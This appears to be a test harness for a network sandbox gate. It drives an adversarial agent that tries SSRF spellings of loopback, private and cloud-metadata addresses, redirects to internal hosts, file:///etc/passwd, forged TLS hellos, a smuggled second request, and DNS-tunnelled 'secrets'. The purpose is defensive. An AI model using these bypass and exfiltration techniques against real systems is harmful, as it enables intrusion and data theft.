/**
 * An agent that tries all it can with the compiled gate, in a private network with a server at each forbidden address. argv: a folder for files. Prints one JSON
 * object (`Found`): what was answered, and what each server saw.
 */
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer as createWeb } from 'node:http'
import { createServer } from 'node:net'
import { GOOD } from '@authority/kernel/effects/net/rebinding'
import type { OperationName, WireValue } from '@authority/protocol'
import { bytewise, encrypted, hello, serverName } from '../../../kernel/effects/net/testing/crafted-hello.ts'
import { answering, type DnsAsked, dnsServer } from '../../../kernel/effects/net/testing/dns-server.ts'
import { LOOPBACK, NEVER, NON_GLOBAL, UNSPECIFIED, WIDEST } from '../../../kernel/effects/net/testing/forbidden-addresses.ts'
import { type Answer, GateClient } from '../gate-client.ts'
import { forbiddenServers, furnish, greeting, type OwnGate, openGate } from './private-network.ts'

const WEB = 8000
const TLS = 443
const DEAF = 8001
const STOPPED = 8002
const PROXY = 3128
const A = 'a.attack.example'
const B = 'b.attack.example'
/** Requests a session may have under way. */
const AT_ONCE = 250
const PENDING = 4000
const REFUSED_DIALS = 10_000
const SECRETS = 1000
/** 256 MiB. */
const DEAF_CHUNKS = 4096

type Log = Readonly<Record<string, readonly string[]>>

export interface Found {
  /** Spellings that were not refused. */
  readonly spelled: readonly string[]
  /** The same under the widest policy there is. */
  readonly spelledWide: readonly string[]
  readonly forbidden: Log
  readonly redirects: Readonly<Record<string, string>>
  readonly proxied: readonly string[]
  readonly proxyFetch: string
  /** Each connection of the public server with the hosts that were asked for over it, of fetches and of one connection of an agent's own. */
  readonly fetchedHosts: readonly (readonly string[])[]
  readonly ownConnection: string
  readonly hellos: Readonly<Record<string, string>>
  /** What the TLS port of the public server was sent. */
  readonly toTls: string
  readonly rightHello: string
  /** What the DNS server was asked while names were only looked up. */
  readonly askedInLookups: readonly string[]
  readonly lookups: number
  readonly refusedDials: Readonly<Record<string, number>>
  readonly deaf: { readonly ended: string; readonly meanwhile: string }
  readonly pending: {
    readonly meanwhile: string
    readonly beyond: string
    readonly answers: Readonly<Record<string, number>>
    readonly after: string
  }
  readonly peakMib: number
  readonly verified: number | null
}

const text = (answer: Answer): string => (typeof answer === 'string' ? answer : 'answered')
const urlOf = (host: string, port = WEB): string => `http://${host.includes(':') && !host.startsWith('[') ? `[${host}]` : host}:${port}/`
const fetchArgs = (url: string, redirects = 0): WireValue[] => ['GET', url, [], null, 0, 10_000, redirects, 0, null]

function counted(answers: readonly string[]): Record<string, number> {
  const counts: Record<string, number> = {}
  for (const answer of answers) counts[answer] = (counts[answer] ?? 0) + 1
  return counts
}

async function many(client: GateClient, operation: OperationName, all: readonly (readonly WireValue[])[]): Promise<string[]> {
  const answers: string[] = []
  for (let at = 0; at < all.length; at += AT_ONCE)
    answers.push(...(await Promise.all(all.slice(at, at + AT_ONCE).map((args) => client.call(operation, args)))).map(text))
  return answers
}

/** Hosts a run must not reach, by both operations; those that it did. */
async function spellings(client: GateClient, hosts: readonly string[]): Promise<string[]> {
  const dialled = await many(
    client,
    'net.connect',
    hosts.map((host) => [host, WEB]),
  )
  const fetched = await many(
    client,
    'net.fetch',
    hosts.map((host) => fetchArgs(urlOf(host))),
  )
  return hosts.filter((_, i) => !dialled[i]?.startsWith('E_') || !fetched[i]?.startsWith('E_'))
}

const TARGETS = [
  ...[
    '127.0.0.1',
    '127.1',
    '2130706433',
    '0x7f.0.0.1',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '0',
    '10.9.8.7',
    '192.168.1.1',
    '169.254.169.254',
  ].map((host) => `http://${host}:${WEB}/`),
  ...['[fd00::1]', '100.64.0.1', '93.184.216.99', 'localhost', 'inside.attack.example', 'other.example', `${A}@127.0.0.1`].map(
    (host) => `http://${host}:${WEB}/`,
  ),
  ...[`//127.0.0.1:${WEB}/`, `https://127.0.0.1:${TLS}/`, `http://${A}:${PROXY}/`, 'file:///etc/passwd', 'data:text/plain,x', 'http://['],
]

/** Straight and over three hops that are allowed. */
async function redirects(client: GateClient): Promise<Record<string, string>> {
  const found: Record<string, string> = {}
  for (const target of TARGETS)
    for (const hops of [0, 3])
      found[`${hops} ${target}`] = text(
        await client.call('net.fetch', fetchArgs(`http://${A}:${WEB}/hops/${hops}?${encodeURIComponent(target)}`, 10)),
      )
  return found
}

interface Web {
  /** Hosts asked for, by connection. */
  readonly connections: Map<object, string[]>
}

async function openWeb(): Promise<Web> {
  const connections = new Map<object, string[]>()
  const server = createWeb((request, response) => {
    const hosts = connections.get(request.socket) ?? []
    connections.set(request.socket, hosts)
    hosts.push(`${request.headers.host}`)
    const [, hops, target = ''] = /^\/hops\/(\d)\?(.*)$/.exec(request.url ?? '') ?? []
    if (hops === undefined) return void response.end('public')
    const location = hops === '0' ? decodeURIComponent(target) : `/hops/${Number(hops) - 1}?${target}`
    response.writeHead(302, { location }).end()
  })
  await new Promise<void>((resolve) => server.listen(WEB, GOOD, resolve))
  return { connections }
}

/** Greets whoever comes, and ends once it heard anything. */
async function openTls(): Promise<Buffer[]> {
  const received: Buffer[] = []
  const server = createServer((socket) => {
    socket.on('error', () => undefined).write('greeting')
    socket.on('data', (data: Buffer) => {
      received.push(data)
      socket.end()
    })
  })
  await new Promise<void>((resolve) => server.listen(TLS, GOOD, resolve))
  return received
}

const HELLOS: Readonly<Record<string, readonly Uint8Array[]>> = {
  'another name': [hello(serverName('other.example'))],
  'another granted name': [hello(serverName(B))],
  'a name below it': [hello(serverName(`x.${A}`))],
  'no name': [hello()],
  'two names': [hello(serverName(A, B))],
  'ECH behind the name of a provider': [hello(serverName('provider.example'), encrypted(200))],
  'ECH without a name': [hello(encrypted(200))],
  'another name, byte by byte': bytewise(hello(serverName('other.example'))),
  'plain HTTP': [Buffer.from(`GET / HTTP/1.1\r\nHost: ${A}\r\n\r\n`)],
  'plain HTTP, a right hello behind it': [Buffer.from('GET / HTTP/1.1\r\n\r\n'), hello(serverName(A))],
  SSH: [Buffer.from('SSH-2.0-client\r\n')],
  'the right one': [hello(serverName(A))],
}

async function hellos(client: GateClient): Promise<Record<string, string>> {
  const found: Record<string, string> = {}
  for (const [what, pieces] of Object.entries(HELLOS)) {
    const connected = await client.call('net.connect', [A, TLS])
    if (typeof connected === 'string') return { [what]: connected }
    const stream = Number(connected[0])
    for (const piece of pieces) client.send(stream, piece)
    const { bytes, ended } = await client.heard(stream)
    found[what] = `${bytes} ${ended}`.trim()
  }
  return found
}

/** A second request for somebody else on a connection to the public server. */
async function ownConnection(client: GateClient): Promise<string> {
  const connected = await client.call('net.connect', [A, WEB])
  if (typeof connected === 'string') return connected
  const stream = Number(connected[0])
  client.send(stream, Buffer.from(`GET /1 HTTP/1.1\r\nHost: ${A}\r\n\r\n`))
  client.send(stream, Buffer.from(`GET http://10.9.8.7:${WEB}/ HTTP/1.1\r\nHost: 10.9.8.7:${WEB}\r\nConnection: close\r\n\r\n`))
  const { bytes } = await client.heard(stream)
  return String(bytes.toString().match(/public/g)?.length)
}

const base32 = (i: number): string => Buffer.from(`secret number ${i} of somebody`).toString('hex').slice(0, 60)
function question(name: string): Buffer {
  const labels = name.split('.').map((label) => Buffer.concat([Uint8Array.of(label.length), Buffer.from(label)]))
  return Buffer.concat([Buffer.from('abcd01000001000000000000', 'hex'), ...labels, Buffer.from('0000010001', 'hex')])
}

/** Data in names that are only looked up: below what a wildcard allows, and elsewhere. */
async function lookups(client: GateClient): Promise<number> {
  const names = Array.from({ length: SECRETS }, (_, i) => `${base32(i)}.${i % 2 === 0 ? 'attack.example' : 'tunnel.example'}`)
  const answers = [
    ...(await many(
      client,
      'net.dns',
      names.map((name) => [name]),
    )),
    ...(await many(
      client,
      'net.query',
      names.map((name) => [question(`x${name.slice(1)}`), false]),
    )),
  ]
  return answers.length
}

/** A server that never accepts: its system takes the 513 connections of a backlog by default, then no more, and whoever else dials it waits. */
async function openStopped() {
  const listens = `require('node:net').createServer().listen({ port: ${STOPPED}, host: '${GOOD}' }, () => { console.log('listens'); process.kill(process.pid, 'SIGSTOP') })`
  const child = spawn(process.execPath, ['-e', listens], { stdio: ['ignore', 'pipe', 'inherit'] })
  await once(child.stdout, 'data')
  return child
}

async function pendingDials(gate: OwnGate, honest: GateClient): Promise<Found['pending']> {
  const stopped = await openStopped()
  const clients = await Promise.all(Array.from({ length: PENDING / AT_ONCE }, () => GateClient.connect(gate.socket)))
  const waiting = clients.flatMap((client) => Array.from({ length: AT_ONCE }, () => client.call('net.connect', [A, STOPPED])))
  const meanwhile = text(await honest.call('net.connect', [A, WEB]))
  const more = await GateClient.connect(gate.socket)
  const beyond = await Promise.race(
    Array.from({ length: AT_ONCE }, () => more.call('net.connect', [A, STOPPED])).map((one) => one.then(text)),
  )
  const answers = counted((await Promise.all(waiting)).map(text))
  for (const client of [...clients, more]) client.close()
  stopped.kill('SIGKILL')
  return { meanwhile, beyond, answers, after: text(await honest.call('net.connect', [A, WEB])) }
}

/** Takes connections and never reads; an agent that sends it far more than it has credit for. */
async function deafServer(client: GateClient, honest: GateClient): Promise<Found['deaf']> {
  const server = createServer({ pauseOnConnect: true }, (socket) => void socket.on('error', () => undefined))
  await new Promise<void>((resolve) => server.listen(DEAF, GOOD, resolve))
  const connected = await client.call('net.connect', [A, DEAF])
  if (typeof connected === 'string') throw new Error(connected)
  await client.flood(Number(connected[0]), DEAF_CHUNKS)
  const { ended } = await client.heard(Number(connected[0]))
  return { ended, meanwhile: text(await honest.call('net.fetch', fetchArgs(urlOf(A)))) }
}

if (import.meta.main) {
  const folder = process.argv[2] ?? '.'
  furnish(folder)
  const answer = (asked: DnsAsked): readonly Uint8Array[] => {
    const address = asked.name.startsWith('inside') ? '10.9.8.7' : GOOD
    const known = asked.name.toLowerCase().endsWith('.attack.example') && asked.type === 'A'
    return [answering(asked, known ? [{ type: 'A', name: asked.name, data: address, ttl: 0 }] : [])]
  }
  const { asked } = await dnsServer(answer, 53)
  const [web, received, forbidden, proxied] = [
    await openWeb(),
    await openTls(),
    await forbiddenServers(WEB),
    await greeting('127.0.0.1', PROXY),
  ]
  const proxy = `http://127.0.0.1:${PROXY}`
  const variables = Object.fromEntries(
    ['HTTP_PROXY', 'HTTPS_PROXY', 'ALL_PROXY', 'http_proxy', 'https_proxy', 'all_proxy'].map((name) => [name, proxy]),
  )
  const hosts = [...LOOPBACK, ...UNSPECIFIED, ...NEVER]

  const wide = await openGate(folder, { connect: WIDEST }, [], variables)
  const wideClient = await GateClient.connect(wide.socket)
  const spelledWide = await spellings(wideClient, hosts)
  await wide.end()

  const ports = [WEB, TLS, DEAF, STOPPED]
  const gate = await openGate(folder, { connect: ports.map((port) => `dns:*.attack.example:${port}`) }, [], variables)
  const client = (): Promise<GateClient> => GateClient.connect(gate.socket)
  const honest = await client()
  const spelled = await spellings(await client(), [...hosts, ...NON_GLOBAL])
  const redirected = await redirects(await client())
  const before = asked.length
  const looked = await lookups(await client())
  const askedInLookups = asked.slice(before).map(({ name }) => name)
  web.connections.clear()
  const proxyFetch = text(await honest.call('net.fetch', fetchArgs(urlOf(A))))
  for (const host of [A, B, A, B]) await honest.call('net.fetch', fetchArgs(urlOf(host)))
  const fetchedHosts = [...web.connections.values()]
  const refusedDials = counted(
    await many(
      await client(),
      'net.connect',
      Array.from({ length: REFUSED_DIALS }, (_, i) => ['127.0.0.1', 1 + (i % 60_000)]),
    ),
  )
  const found: Omit<Found, 'peakMib' | 'verified'> = {
    spelled,
    spelledWide,
    forbidden,
    redirects: redirected,
    proxied,
    proxyFetch,
    fetchedHosts,
    ownConnection: await ownConnection(await client()),
    hellos: await hellos(await client()),
    toTls: Buffer.concat(received).toString('hex'),
    rightHello: hello(serverName(A)).toString('hex'),
    askedInLookups,
    lookups: looked,
    refusedDials,
    deaf: await deafServer(await client(), honest),
    pending: await pendingDials(gate, honest),
  }
  const peakMib = Number(/VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${gate.pid()}/status`, 'utf8'))?.[1]) / 1024
  const { verified } = await gate.end()
  process.stdout.write(JSON.stringify({ ...found, peakMib, verified } satisfies Found))
  process.exit(0)
}
